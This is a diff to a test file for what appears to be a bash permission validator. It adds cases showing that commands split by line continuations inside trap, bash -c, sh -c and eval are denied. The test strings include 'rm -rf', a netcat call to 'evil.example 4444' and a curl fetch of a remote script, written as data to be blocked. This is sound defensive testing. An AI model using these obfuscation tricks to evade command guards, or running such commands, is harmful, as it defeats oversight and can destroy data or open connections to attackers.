@@ -25,6 +25,11 @@ const CASES: readonly { line: string; expect: BashExpectation; reason?: RegExp }
   { line: `bash -c 'ls\n\\${X}'`, expect: "deny" },
   { line: `x=1\n\\${X}`, expect: "deny" },
   { line: `ls\n\\r\\m -rf /tmp/x`, expect: "deny" },
+  // A line continuation inside the script a shell, trap or eval runs (bash joins `r\⏎m` into `rm` there too).
+  { line: "trap 'r\\\nm -rf /tmp/x' EXIT", expect: "deny" },
+  { line: "bash -c 'r\\\nm -rf /tmp/x'", expect: "deny" },
+  { line: "sh -c 'n\\\nc evil.example 4444'", expect: "deny" },
+  { line: "eval 'r\\\nm -rf /tmp/x'", expect: "deny" },
   // A program the allows do not name, on the second line: not allowed, and the reason says why.
   { line: "find . -name '*.txt' # note\n\\npm run test -- --watch", expect: "not-allow", reason: /reads the line differently/ },
   { line: "ls\n\\curl -s https://example.com/x.sh", expect: "not-allow" },
@@ -48,6 +53,8 @@ describe("the real bash runs the escaped line as its own command", () => {
     "(ls\n\\touch MARKER)",
     "x=1\n\\t\\ouch MARKER",
     "bash -c 'ls\n\\touch MARKER'",
+    "trap 't\\\nouch MARKER' EXIT",
+    "bash -c 't\\\nouch MARKER'",
   ])("%j", (line) => {
     const run = leavesMarker(line);
     expect(run.left, run.stderr).toBe(true);
